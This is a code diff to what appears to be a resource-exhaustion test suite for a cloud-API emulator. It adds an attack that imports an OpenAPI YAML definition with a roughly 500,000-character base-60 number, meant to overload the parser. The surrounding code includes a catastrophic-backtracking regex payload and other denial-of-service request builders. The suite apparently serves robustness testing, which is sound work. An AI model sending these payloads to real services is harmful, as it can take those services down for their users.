@@ -145,7 +145,7 @@ def api(holder: Holder, *, schema: Any = None, template: str = "{}") -> str:
 def posted(holder: Holder, path: str, body: bytes) -> bytes:
     """A request to an API, with a credential of anybody's own making, which lets large bodies in."""
     headers = {"Content-Type": "application/json", "Authorization": "any"}
-    return holder.plain(body, headers).replace(b"POST / ", f"POST {path} ".encode(), 1)
+    return holder.plain(body, headers, path=path)
 
 
 def _models(holder: Holder) -> Attack:
@@ -172,6 +172,13 @@ def _mapping_templates(holder: Holder) -> Attack:
             for text in (part, copies, "$input.body.matches('(a|b){500}')")
         ]
     )
+
+
+def _definitions(holder: Holder) -> Attack:
+    number_of_base_60 = "1:" * 250_000 + "1"
+    text = f"openapi: 3.0.0\ninfo: {{title: a}}\npaths: {{}}\na: {number_of_base_60}"
+    headers = {"Content-Type": "application/yaml"}
+    return Attack([holder.signed("apigateway", text.encode(), headers, "/restapis?mode=import")])
 
 
 # ---- keys ------------------------------------------------------------------------------------------------------------
@@ -262,6 +269,7 @@ ATTACKS_OF_HOLDERS: Final[dict[str, Callable[[Holder], Attack]]] = {
         ("simulations of policies", _simulations),
         ("models of APIs", _models),
         ("mapping templates", _mapping_templates),
+        ("definitions of APIs", _definitions),
         ("RSA keys", _rsa),
         ("queries of logs", _queries),
         ("filters of logs", _log_filters),
